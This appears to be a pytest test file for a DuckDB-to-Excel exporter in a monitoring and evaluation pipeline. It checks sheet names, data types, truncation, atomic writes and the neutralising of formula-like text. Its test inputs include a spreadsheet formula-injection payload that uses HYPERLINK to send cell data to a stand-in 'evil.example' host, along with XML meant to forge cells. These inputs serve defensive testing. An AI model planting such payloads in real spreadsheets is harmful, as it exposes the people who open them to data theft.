"""The Excel workbook: a contents sheet, then a sheet per table, formula-like text neutralised, numbers and dates
kept as such, fractions rounded to the engine's 9 decimals, each indicator's name beside its code."""

import datetime as dt

import duckdb
import openpyxl
import pytest

from mel_pipeline.outputs import workbook as excel_export
from mel_pipeline.outputs.workbook import export_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"click me")', "+1", "-2", "@SUM(A1)", "\tcmd", "\rcmd"]
LONG_NAME = "rejected_rows_with_a_name_longer_than_excel_allows"


@pytest.fixture
def workbook(tmp_path):
    """The workbook of a small marts file: `notes` with hostile text, numbers and dates, and a long-named table."""
    marts = tmp_path / "mel.duckdb"
    connection = duckdb.connect(str(marts))
    connection.execute("CREATE TABLE notes (id BIGINT, note VARCHAR, amount DOUBLE, day DATE, stamp TIMESTAMP, "
                       "flag BOOLEAN, tags VARCHAR[])")
    rows = [[index, text, -2.5 * index, dt.date(2024, 1, index), dt.datetime(2024, 1, index, 13, 30), index % 2 == 0,
             ["sex", "state"]] for index, text in enumerate([*HOSTILE, "plain text", "3-4 workers", None], start=1)]
    connection.executemany("INSERT INTO notes VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    connection.execute(f"CREATE TABLE {LONG_NAME} AS SELECT 1 AS n")
    connection.close()
    out = tmp_path / "out" / "mel_marts.xlsx"
    assert export_workbook(marts, out) == out
    return out


def export(tmp_path, *statements: str, descriptions=None) -> openpyxl.Workbook:
    """The workbook exported from a marts file built by running `statements`."""
    marts = tmp_path / "mel.duckdb"
    with duckdb.connect(str(marts)) as connection:
        for statement in statements:
            connection.execute(statement)
    return openpyxl.load_workbook(export_workbook(marts, tmp_path / "out" / "mel_marts.xlsx", descriptions))


def values(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column(sheet, name: str) -> list:
    header = [cell.value for cell in sheet[1]]
    return [row[header.index(name)] for row in sheet.iter_rows(min_row=2)]


def test_one_sheet_per_table_with_names_excel_accepts(workbook):
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames == ["contents", "notes", LONG_NAME[:31]]
    assert [path.name for path in workbook.parent.iterdir()] == ["mel_marts.xlsx"]


def test_formula_like_text_comes_back_as_quoted_text(workbook):
    notes = column(openpyxl.load_workbook(workbook)["notes"], "note")
    for cell, text in zip(notes, HOSTILE):
        assert cell.data_type == "s"
        assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert [cell.value for cell in notes[len(HOSTILE):]] == ["plain text", "3-4 workers", None]


def test_numbers_dates_and_lists_keep_their_kind(workbook):
    sheet = openpyxl.load_workbook(workbook)["notes"]
    ids, amounts = column(sheet, "id"), column(sheet, "amount")
    assert [cell.value for cell in ids] == list(range(1, 10)) and {cell.data_type for cell in ids} == {"n"}
    assert amounts[1].value == -5.0 and amounts[1].data_type == "n"
    day, stamp = column(sheet, "day")[0], column(sheet, "stamp")[0]
    assert day.is_date and day.value == dt.datetime(2024, 1, 1) and day.number_format == "yyyy-mm-dd"
    assert stamp.is_date and stamp.value == dt.datetime(2024, 1, 1, 13, 30)
    assert stamp.number_format == "yyyy-mm-dd hh:mm:ss"
    assert column(sheet, "flag")[1].value is True
    assert column(sheet, "tags")[0].value == "sex, state"


def test_header_is_bold_frozen_and_filtered(workbook):
    sheet = openpyxl.load_workbook(workbook)["notes"]
    assert [cell.value for cell in sheet[1]] == ["id", "note", "amount", "day", "stamp", "flag", "tags"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G10"
    assert 8 <= sheet.column_dimensions["B"].width <= 60


def test_a_second_export_replaces_the_first(workbook):
    marts = workbook.parent.parent / "mel.duckdb"
    with duckdb.connect(str(marts)) as connection:
        connection.execute("DELETE FROM notes WHERE id > 1")
    export_workbook(marts, workbook)
    assert openpyxl.load_workbook(workbook)["notes"].max_row == 2


def test_nan_is_left_empty_and_infinity_written_as_text(tmp_path):
    sheet = export(tmp_path, "CREATE TABLE t (x DOUBLE)",
                   "INSERT INTO t VALUES (1.5), ('nan'), (NULL), ('inf'), ('-inf')")["t"]
    assert [(cell.value, cell.data_type) for cell in column(sheet, "x")] == [
        (1.5, "n"), (None, "n"), (None, "n"), ("inf", "s"), ("-inf", "s")]
    assert sheet.auto_filter.ref == "A1:A6"


def test_text_loses_control_characters_and_its_line_ends_become_line_feeds(tmp_path):
    book = export(tmp_path, "CREATE TABLE t (note VARCHAR)",
                  "INSERT INTO t VALUES ('bell' || chr(7) || 'ed'), "
                  "('one' || chr(13) || chr(10) || 'two' || chr(13) || 'three'), ('')")
    assert [(cell.value, cell.data_type) for cell in column(book["t"], "note")] == [
        ("belled", "s"), ("one\ntwo\nthree", "s"), ("", "s")]


def test_text_longer_than_a_cell_holds_is_cut_with_an_ellipsis(tmp_path):
    book = export(tmp_path, "CREATE TABLE t AS SELECT repeat('a', 40000) AS story, repeat('b', 32767) AS fits")
    story, fits = book["t"][2]
    assert story.value == "a" * 32766 + "…" and fits.value == "b" * 32767


def test_text_shaped_like_spreadsheet_markup_cannot_forge_cells(tmp_path):
    forged = '<r><t>x</t></r></is></c><c r="B2"><f>1+1</f></c><c r="C2" t="inlineStr"><is><r><t>y</t></r>'
    book = export(tmp_path, "CREATE TABLE t (note VARCHAR)", f"INSERT INTO t VALUES ('{forged}')")
    assert [[(cell.value, cell.data_type) for cell in row] for row in book["t"].iter_rows()] == [
        [("note", "s")], [(forged, "s")]]


def test_other_types_keep_a_readable_form(tmp_path):
    book = export(tmp_path, "CREATE TABLE t AS SELECT '01:30:00'::TIME AS clock, "
                            "INTERVAL 1 DAY + INTERVAL 90 MINUTE AS span, '2024-01-01'::TIMESTAMP AS midnight, "
                            "'2024-01-01 13:30:00+00'::TIMESTAMPTZ AS zoned, "
                            "'5c7f335c-093e-47b9-8634-8d3f57c0004f'::UUID AS id, {'x': 1} AS pair, "
                            "[1, NULL, 3] AS numbers")
    clock, span, midnight, zoned, id_, pair, numbers = book["t"][2]
    assert (clock.value, clock.number_format) == (dt.time(1, 30), "h:mm:ss")
    assert (span.value, span.number_format) == (dt.timedelta(days=1, minutes=90), "[hh]:mm:ss")
    assert (midnight.value, midnight.number_format) == (dt.datetime(2024, 1, 1), "yyyy-mm-dd")
    # Excel has no time zones: the text keeps the instant, whatever the session's zone.
    assert dt.datetime.fromisoformat(zoned.value) == dt.datetime(2024, 1, 1, 13, 30, tzinfo=dt.timezone.utc)
    assert [(cell.value, cell.data_type) for cell in (id_, pair, numbers)] == [
        ("5c7f335c-093e-47b9-8634-8d3f57c0004f", "s"), ("{'x': 1}", "s"), ("1, , 3", "s")]


def test_sheet_names_cut_to_the_same_prefix_are_numbered(tmp_path):
    book = export(tmp_path, f"CREATE TABLE {LONG_NAME} AS SELECT 1 AS n",
                  f"CREATE TABLE {LONG_NAME}_too AS SELECT 2 AS n")
    assert book.sheetnames == ["contents", "rejected_rows_with_a_name_longe", "rejected_rows_with_a_name_lon~2"]
    assert [sheet["A2"].value for sheet in book.worksheets[1:]] == [1, 2]


def test_rows_beyond_excel_limit_become_a_note(tmp_path, monkeypatch):
    monkeypatch.setattr(excel_export, "EXCEL_MAX_ROWS", 5)
    sheet = export(tmp_path, "CREATE TABLE t AS SELECT range AS n FROM range(10)")["t"]
    assert [row[0].value for row in sheet.iter_rows()] == [
        "n", 0, 1, 2, "truncated at Excel's row limit: 7 more rows in the DuckDB or Parquet marts"]
    assert sheet.auto_filter.ref == "A1:A4"


def test_a_failed_export_leaves_the_previous_workbook_and_no_temporary_file(workbook, monkeypatch):
    before = workbook.read_bytes()

    def fail(*args):
        raise RuntimeError("disk full")

    monkeypatch.setattr(excel_export, "_number_cell", fail)  # midway: after the header, at the first id
    with pytest.raises(RuntimeError, match="disk full"):
        export_workbook(workbook.parent.parent / "mel.duckdb", workbook)
    assert [path.name for path in workbook.parent.iterdir()] == ["mel_marts.xlsx"]
    assert workbook.read_bytes() == before


def test_the_contents_sheet_comes_first_and_lists_each_sheet_what_it_holds_and_its_rows(tmp_path):
    book = export(tmp_path, "CREATE TABLE load_audit AS SELECT range AS n FROM range(3)",
                  "CREATE TABLE contents AS SELECT 'a table named like the contents sheet' AS note",
                  f"CREATE TABLE {LONG_NAME} AS SELECT 1 AS n WHERE false",
                  descriptions={"load_audit": "One row per raw file: rows read. The rest is for the Dagster UI.",
                                "contents": "Someone's 'notes'."})
    assert book.sheetnames[0] == "contents"
    assert values(book["contents"]) == [
        ["sheet", "holds", "rows"],
        ["contents~2", "Someone's 'notes'.", 1],
        ["load_audit", "One row per raw file: rows read.", 3],
        [LONG_NAME[:31], None, 0],
    ]
    assert values(book["contents~2"]) == [["note"], ["a table named like the contents sheet"]]
    contents = book["contents"]
    assert contents.freeze_panes == "A2" and contents.auto_filter.ref == "A1:C4"


def test_each_indicator_code_has_the_indicator_name_beside_it(tmp_path):
    book = export(tmp_path, "CREATE TABLE indicator_catalog (code VARCHAR, name VARCHAR)",
                  "INSERT INTO indicator_catalog VALUES ('CAP-01', 'Women in union executive seats'), "
                  "('AWR-02', 'Trained participants with a knowledge gain')",
                  "CREATE TABLE indicator_values (indicator_code VARCHAR, project_code VARCHAR, value DOUBLE)",
                  "INSERT INTO indicator_values VALUES ('CAP-01', 'MAP', 3), ('AWR-02', 'MAP', 80), "
                  "('CAP-01', 'CALLE', 4), ('XYZ-09', 'MAP', 1)")
    assert values(book["indicator_values"]) == [
        ["indicator_code", "indicator_name", "project_code", "value"],
        ["CAP-01", "Women in union executive seats", "MAP", 3],
        ["AWR-02", "Trained participants with a knowledge gain", "MAP", 80],
        ["CAP-01", "Women in union executive seats", "CALLE", 4],
        ["XYZ-09", None, "MAP", 1],
    ]
    assert values(book["indicator_catalog"])[0] == ["code", "name"]


def test_fractions_are_rounded_to_the_nine_decimals_the_engine_computes_in(tmp_path):
    sheet = export(tmp_path, "CREATE TABLE t (x DOUBLE, exact DECIMAL(38, 9), n HUGEINT)",
                   "INSERT INTO t VALUES (0.10999999999999988, 0.5, 170141183460469231731687303715884105727), "
                   "(2.0 / 3, 1234567.123456789, 3), (80.00000000000001, 2, 0), (1e20, 0.000000001, -7)")["t"]
    assert values(sheet)[1:] == [[0.11, 0.5, 170141183460469231731687303715884105727],
                                 [0.666666667, 1234567.123456789, 3], [80, 2, 0], [1e20, 1e-09, -7]]
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} == {"n"}
